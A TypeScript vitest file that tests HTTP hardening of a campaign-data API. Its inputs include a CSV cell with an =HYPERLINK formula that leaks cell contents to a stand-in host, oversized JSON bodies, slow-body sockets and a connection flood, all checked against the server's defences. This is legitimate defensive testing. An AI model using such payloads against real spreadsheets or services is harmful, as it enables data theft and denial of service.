import net from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LiveFeed } from '../../src/services/progress/live-feed.service.js';
import { seedKnownCampaign } from '../support/progress-fixture.js';
import { api, keyHeaders, startTestApp, TEST_ADMIN_API_KEY, zrCampaign, type TestApp } from '../support/services.js';

/** Issue 17, medium and low findings of the HTTP side: each test reproduces one. */
describe('HTTP hardening', () => {
  let t: TestApp;
  let campaign: string;
  let other: string;
  const admin = { authorization: `Bearer ${TEST_ADMIN_API_KEY}` };

  beforeAll(async () => {
    t = await startTestApp();
    campaign = (await seedKnownCampaign(t.baseUrl, t.infra.dataSource, t.config)).campaign.id; // an open job on xrd-1
    other = (await api(t.baseUrl, 'POST', '/api/v1/campaigns', zrCampaign({ name: 'other' }))).body.id;
  });
  afterAll(async () => {
    await t?.close();
  });

  it('sends helmet-style headers and no X-Powered-By, on answers and errors alike', async () => {
    for (const path of ['/health', '/api/v1/campaigns', '/api/v1/no-such-route']) {
      const res = await fetch(`${t.baseUrl}${path}`, { headers: admin });
      expect(res.headers.get('x-powered-by'), path).toBeNull();
      expect(res.headers.get('x-frame-options'), path).toBe('DENY');
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(res.headers.get('content-security-policy'), path).toContain("default-src 'none'");
      expect(res.headers.get('content-security-policy'), path).toContain("frame-ancestors 'none'");
    }
  });

  it('refuses a wide or deep JSON body before parsing it, and a body without a key before reading it', async () => {
    const wide = `{"name":"x",${Array.from({ length: 600_000 }, (_, i) => `"k${i}":1`).join(',')}}`; // ~6.6 MB
    const started = Date.now();
    const health = (async () => {
      await new Promise((r) => setTimeout(r, 50));
      const t0 = Date.now();
      await fetch(`${t.baseUrl}/health`);
      return Date.now() - t0;
    })();
    const wideRes = await fetch(`${t.baseUrl}/api/v1/campaigns`, { method: 'POST', headers: { ...admin, 'content-type': 'application/json' }, body: wide });
    expect(wideRes.status).toBe(400);
    expect(((await wideRes.json()) as { message: string }).message).toBe('an object in the body has more than 10000 members');
    expect(Date.now() - started).toBeLessThan(5000);
    expect(await health).toBeLessThan(3000);
    const deep = await fetch(`${t.baseUrl}/api/v1/campaigns`, { method: 'POST', headers: { ...admin, 'content-type': 'application/json' }, body: '['.repeat(100) + ']'.repeat(100) });
    expect(deep.status).toBe(400);
    expect(((await deep.json()) as { message: string }).message).toBe('the body nests deeper than 64 levels');
    // no key: 401 without parsing (an unparseable body was a 400 from the parser before the key was looked at)
    const keyless = await fetch(`${t.baseUrl}/api/v1/campaigns`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name": not json' });
    expect(keyless.status).toBe(401);
  });

  it('answers 400, not 500, to ?offset= beyond bigint on list routes', async () => {
    for (const path of ['/api/v1/campaigns', `/api/v1/campaigns/${campaign}/experiments`, `/api/v1/campaigns/${campaign}/measurements`, '/api/v1/rejected-messages', '/api/v1/jobs']) {
      const res = await api(t.baseUrl, 'GET', `${path}?offset=99999999999999999999`);
      expect(res.status, path).toBe(400);
      expect(JSON.stringify(res.body.message), path).toContain('offset');
    }
  });

  it('refuses a campaign name of spaces only', async () => {
    const res = await api(t.baseUrl, 'POST', '/api/v1/campaigns', zrCampaign({ name: '   ' }));
    expect(res.status).toBe(400);
    expect(JSON.stringify(res.body.message)).toContain('name must not be blank');
    expect((await api(t.baseUrl, 'PATCH', `/api/v1/campaigns/${other}`, { name: ' \t ' })).status).toBe(400);
  });

  it('neutralises formula-leading cells in CSV exports', async () => {
    const csv = 'name,composition,phase,yieldStrengthMPa,elongationPct\n"=HYPERLINK(""http://x/?""&A1,""click"")",Zr60Cu30Al10,amorphous,1700,2\n@SUM(A1),Zr65Cu25Al10,amorphous,1600,2\n';
    expect((await api(t.baseUrl, 'POST', `/api/v1/campaigns/${other}/measurements/import`, csv)).status).toBe(201);
    const exported = await fetch(`${t.baseUrl}/api/v1/campaigns/${other}/export/measurements.csv`, { headers: admin });
    const text = await exported.text();
    expect(text).toContain(`"'=HYPERLINK(""http://x/?""&A1,""click"")"`);
    expect(text).toContain(`'@SUM(A1)`);
    expect(text.split('\n').slice(1).some((line) => /(^|,)[=+@]/.test(line))).toBe(false);
  });

  it('answers 400 with the right reason to uploads with NUL bytes or invalid UTF-8', async () => {
    const upload = (bytes: Buffer, type = 'text/csv') => {
      const form = new FormData();
      form.append('file', new Blob([bytes], { type }), 'seed.csv');
      return fetch(`${t.baseUrl}/api/v1/campaigns/${other}/measurements/import`, { method: 'POST', headers: admin, body: form });
    };
    const header = 'name,composition,phase,yieldStrengthMPa,elongationPct\n';
    const nul = await upload(Buffer.from(`${header}a\u0000b,Zr60Cu30Al10,amorphous,1700,2\n`));
    expect(nul.status).toBe(400);
    expect(((await nul.json()) as { message: string }).message).toContain('contains a NUL character');
    const latin1 = await upload(Buffer.concat([Buffer.from(`${header}Zr`), Buffer.from([0xe9, 0xff]), Buffer.from(',Zr60Cu30Al10,amorphous,1700,2\n')]));
    expect(latin1.status).toBe(400);
    expect(((await latin1.json()) as { message: string }).message).toContain('is not valid UTF-8');
    const text = await fetch(`${t.baseUrl}/api/v1/campaigns/${other}/measurements/import`, {
      method: 'POST', headers: { ...admin, 'content-type': 'text/csv' }, body: Buffer.from([0x61, 0xff, 0x0a]),
    });
    expect(text.status).toBe(400);
    const message = ((await text.json()) as { message: string }).message;
    expect(message).toContain('not valid UTF-8');
    expect(message).not.toContain('JSON');
  });

  it("shows a campaign-limited key no other campaign's jobs through GET /instruments", async () => {
    const limited = await keyHeaders(t.baseUrl, 'viewer.other', 'viewer', [other]);
    const all = (await api(t.baseUrl, 'GET', '/api/v1/instruments')).body.find((i: { id: string }) => i.id === 'xrd-1');
    expect(all.openJobs.length).toBeGreaterThan(0);
    const seen = (await api(t.baseUrl, 'GET', '/api/v1/instruments', undefined, limited)).body.find((i: { id: string }) => i.id === 'xrd-1');
    expect(seen.openJobs).toEqual([]);
    const one = (await api(t.baseUrl, 'GET', '/api/v1/instruments/xrd-1', undefined, limited)).body;
    expect(JSON.stringify(one)).not.toContain(campaign);
  });

  it('binds an Idempotency-Key to its request: a reuse with another body is a 422 and stores nothing', async () => {
    const [{ id: experiment }] = await t.infra.dataSource.query(`SELECT id FROM experiment WHERE campaign_id = $1 AND sequence = 9`, [campaign]);
    const count = async () => Number((await t.infra.dataSource.query(`SELECT count(*) AS n FROM measurement WHERE campaign_id = $1`, [campaign]))[0].n);
    const entry = { phase: 'amorphous', yieldStrengthMPa: 1900, elongationPct: 11 };
    const key = { 'idempotency-key': 'entry-1' };
    const first = await api(t.baseUrl, 'POST', `/api/v1/experiments/${experiment}/measurements`, entry, key);
    expect(first.status).toBe(201);
    const before = await count();
    const retry = await api(t.baseUrl, 'POST', `/api/v1/experiments/${experiment}/measurements`, { elongationPct: 11, yieldStrengthMPa: 1900, phase: 'amorphous' }, key);
    expect(retry.body).toMatchObject({ stored: false, duplicateOf: first.body.measurement.id });
    const changed = await api(t.baseUrl, 'POST', `/api/v1/experiments/${experiment}/measurements`, { ...entry, yieldStrengthMPa: 2400 }, key);
    expect(changed.status).toBe(422);
    expect(changed.body.message).toContain('Idempotency-Key "entry-1" was already used');
    expect(await count()).toBe(before);

    const csvA = 'name,composition,phase,yieldStrengthMPa,elongationPct\nA1,Zr60Cu30Al10,amorphous,1700,2\n';
    const csvB = `${csvA}B2,Zr65Cu25Al10,amorphous,1750,3\n`;
    const upload = { 'idempotency-key': 'seed-upload-1' };
    expect((await api(t.baseUrl, 'POST', `/api/v1/campaigns/${campaign}/measurements/import`, csvA, upload)).status).toBe(201);
    const afterFirst = await count();
    const reused = await api(t.baseUrl, 'POST', `/api/v1/campaigns/${campaign}/measurements/import`, csvB, upload);
    expect(reused.status).toBe(422);
    expect(await count()).toBe(afterFirst);
    expect((await api(t.baseUrl, 'POST', `/api/v1/campaigns/${campaign}/measurements/import`, csvA, upload)).body).toMatchObject({ kept: 0, duplicates: 1 });
  });

  it('ends a live feed when its key is revoked, and caps the feeds one key may hold', async () => {
    const feed = t.app.get(LiveFeed);
    feed.recheckMs = 100;
    const created = await api(t.baseUrl, 'POST', '/api/v1/api-keys', { name: 'feed.viewer', role: 'viewer' });
    const headers = { authorization: `Bearer ${created.body.key}` };
    const controllers: AbortController[] = [];
    const open = async () => {
      const c = new AbortController();
      controllers.push(c);
      return fetch(`${t.baseUrl}/api/v1/campaigns/${campaign}/events`, { headers, signal: c.signal });
    };
    try {
      const first = await open();
      expect(first.status).toBe(200);
      for (let i = 1; i < feed.maxPerKey; i++) expect((await open()).status).toBe(200);
      const over = await open();
      expect(over.status).toBe(429);
      expect((await api(t.baseUrl, 'DELETE', `/api/v1/api-keys/${created.body.id}`)).status).toBe(200);
      // the stream ends by itself with an `end` event
      const reader = first.body!.getReader();
      let text = '';
      const deadline = Date.now() + 5000;
      for (;;) {
        const chunk = await Promise.race([reader.read(), new Promise<null>((r) => setTimeout(() => r(null), Math.max(1, deadline - Date.now())))]);
        if (chunk === null || chunk.done) break;
        text += new TextDecoder().decode(chunk.value);
      }
      expect(text).toContain('event: end');
      expect(Date.now()).toBeLessThan(deadline);
    } finally {
      for (const c of controllers) c.abort();
    }
  });
});

describe('per-address limit for requests without a key, slow bodies, connection cap', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp({ env: { RATE_LIMIT_PER_MINUTE: '5', HTTP_BODY_TIMEOUT_MS: '500', HTTP_MAX_CONNECTIONS: '8' } });
  });

  const port = () => Number(new URL(t.baseUrl).port);
  /** A raw socket; resolves with what the server sent once it closes the connection (or after ms). */
  function rawSocket(request: string, ms: number): Promise<{ text: string; closed: boolean; socket: net.Socket }> {
    return new Promise((resolve) => {
      const socket = net.connect(port(), '127.0.0.1', () => socket.write(request));
      let text = '';
      socket.on('data', (d) => (text += d.toString()));
      socket.on('error', () => undefined);
      const timer = setTimeout(() => resolve({ text, closed: false, socket }), ms);
      socket.on('close', () => {
        clearTimeout(timer);
        resolve({ text, closed: true, socket });
      });
    });
  }

  it('cuts off a body that does not arrive (408), instead of holding the socket for minutes', async () => {
    const started = Date.now();
    const slow = await rawSocket(
      `POST /api/v1/campaigns HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${TEST_ADMIN_API_KEY}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{`,
      5000,
    );
    expect(slow.closed).toBe(true);
    expect(slow.text).toMatch(/^HTTP\/1\.1 408/);
    expect(Date.now() - started).toBeLessThan(4000);
  });

  afterAll(async () => {
    await t?.close();
  });

  it('answers 429 with Retry-After once an address has sent too many requests without a valid key', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 7; i++) statuses.push((await fetch(`${t.baseUrl}/api/v1/campaigns`, { headers: { authorization: 'Bearer aimd_000000000000_wrongwrongwrongwrongwrongwrongwrong' } })).status);
    expect(statuses.slice(0, 5)).toEqual([401, 401, 401, 401, 401]);
    expect(statuses.slice(5)).toEqual([429, 429]);
    const health = await fetch(`${t.baseUrl}/health`);
    expect(health.status).toBe(429);
    expect(Number(health.headers.get('retry-after'))).toBeGreaterThan(0);
    // a valid key has its own bucket
    expect((await fetch(`${t.baseUrl}/api/v1/campaigns`, { headers: { authorization: `Bearer ${TEST_ADMIN_API_KEY}` } })).status).toBe(200);
  });

  it('refuses connections beyond HTTP_MAX_CONNECTIONS', async () => {
    const idle = await Promise.all(Array.from({ length: 12 }, () => rawSocket('', 700)));
    expect(idle.filter((s) => s.closed).length).toBeGreaterThanOrEqual(4);
    for (const s of idle) s.socket.destroy();
  });
});
